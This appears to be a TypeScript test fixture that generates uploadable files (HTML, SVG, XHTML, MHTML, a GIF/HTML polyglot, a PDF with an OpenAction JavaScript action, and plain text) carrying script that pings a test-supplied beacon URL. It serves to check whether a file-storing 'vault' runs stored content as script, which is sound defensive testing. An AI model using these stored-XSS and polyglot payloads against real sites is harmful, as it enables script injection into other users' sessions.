import { pdf } from './fixtures.ts'

export interface HostileFile {
  filename: string
  contentType: string
  bytes: Uint8Array<ArrayBuffer>
  /** Whether a browser that shows it as a page of the vault runs its script. */
  runs: boolean
}

/** Files that set the title to "run" and ask `beacon` for their own name, wherever what is in them is run. */
export function hostileFiles(beacon: string): HostileFile[] {
  const call = (name: string) => `document.title='run';fetch('${beacon}/${name}',{mode:'no-cors'})`
  const html = (name: string) =>
    `<!doctype html><title>still</title><script>${call(name)}</script><img src="x" onerror="${call(`${name}?handler`)}">`
  const xhtml = (name: string) =>
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>still</title><script>${call(name)}</script></head><body/></html>`
  const svg = (name: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${call(`${name}?handler`)}"><script>${call(name)}</script></svg>`
  const mhtml = (name: string) =>
    [
      'From: <eve@example.org>',
      'Subject: page',
      'MIME-Version: 1.0',
      'Content-Type: multipart/related; type="text/html"; boundary="b"',
      '',
      '--b',
      'Content-Type: text/html',
      `Content-Location: ${beacon}/page`,
      '',
      html(name),
      '--b--',
      '',
    ].join('\r\n')
  const gif = (name: string) => `GIF89a/*\x01\x01${html(name)}*/`
  const signed = (name: string) =>
    pdf('Please sign', `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${beacon}/${name}"\\)) >> `)

  const file = (
    filename: string,
    contentType: string,
    write: (name: string) => string | Uint8Array<ArrayBuffer>,
    runs = false,
  ): HostileFile => {
    const content = write(filename)
    const bytes = typeof content === 'string' ? new TextEncoder().encode(content) : content
    return { filename, contentType, bytes, runs }
  }
  return [
    file('page.html', 'text/html', html, true),
    file('drawing.svg', 'image/svg+xml', svg, true),
    file('page.xml', 'application/xml', xhtml, true),
    file('page.xhtml', 'application/octet-stream', xhtml),
    file('page.mhtml', 'message/rfc822', mhtml),
    file('form.pdf', 'application/pdf', signed),
    // A picture by its first bytes, a page by the rest of them.
    file('picture.gif', 'image/gif', gif),
    file('note.txt', 'text/plain', html),
  ]
}
